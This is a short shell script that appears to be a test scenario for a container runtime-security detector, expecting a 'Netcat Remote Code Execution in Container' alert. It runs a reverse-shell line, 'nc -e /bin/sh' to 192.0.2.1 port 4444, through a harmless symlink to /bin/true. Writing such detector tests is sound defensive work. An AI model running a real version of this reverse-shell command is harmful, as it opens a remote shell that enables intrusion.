#!/bin/sh
# nc -e /bin/sh in the container. A symlink named nc to /bin/true stands in
# for netcat: nothing listens and nothing is executed.
# container: true
# expect: Netcat Remote Code Execution in Container
set -eu
cd "$FT_SCENARIO_WORK"
ln -s /bin/true nc
./nc -e /bin/sh 192.0.2.1 4444
